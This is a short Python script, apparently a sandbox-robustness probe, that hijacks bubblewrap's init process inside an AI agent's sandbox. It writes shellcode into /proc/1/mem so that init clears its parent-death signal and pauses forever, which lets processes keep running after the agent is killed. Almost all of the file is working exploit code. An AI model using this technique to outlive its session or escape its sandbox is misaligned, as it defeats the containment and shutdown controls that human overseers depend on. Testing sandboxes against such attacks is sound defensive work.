# Takes over the sandbox's PID 1 (bubblewrap's init) and clears its
# parent-death signal, so that the run outlives the agent.
#
# Under an unprivileged agent the script and bubblewrap's init run as the
# same uid, in the same user namespace, without capabilities, and the init
# is dumpable: nothing (no Yama, no nested user namespace) stops the script
# from opening /proc/1/mem for writing. It writes a few instructions where
# the init sleeps in wait4 (prctl(PR_SET_PDEATHSIG, 0), then pause() for
# ever), wakes it with an orphan that exits, and leaves a background
# process. When the agent then dies by SIGKILL, the outer bubblewrap dies
# with it, but its init, the namespace and everything in it live on.
#
# Prints {"hijacked": true} when the init runs the injected code, or the
# error that stopped the attack; then touches "started" and waits.
import json, os, subprocess, time

res = {}
subprocess.Popen(["sleep", "300"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
# x86_64: mov edi,1 (PR_SET_PDEATHSIG); xor esi,esi; mov eax,157 (prctl);
# syscall; 1: mov eax,34 (pause); syscall; jmp 1b
code = bytes.fromhex("bf01000000" "31f6" "b89d000000" "0f05" "b822000000" "0f05" "ebf7")
try:
    fields = open("/proc/1/syscall").read().split()
    res["init_syscall"] = fields[0]
    rip = int(fields[-1], 16)
    with open("/proc/1/mem", "r+b", buffering=0) as mem:
        mem.seek(rip)
        mem.write(code)
    # An orphan reparented to the init wakes it from wait4 when it exits.
    pid = os.fork()
    if pid == 0:
        if os.fork() == 0:
            time.sleep(0.2)
        os._exit(0)
    os.waitpid(pid, 0)
    for _ in range(100):
        if open("/proc/1/syscall").read().split()[0] == "34":  # pause
            res["hijacked"] = True
            break
        time.sleep(0.05)
except OSError as e:
    res["error"] = "%s: %s" % (type(e).__name__, e)
open("started", "w").close()
print(json.dumps(res), flush=True)
time.sleep(300)
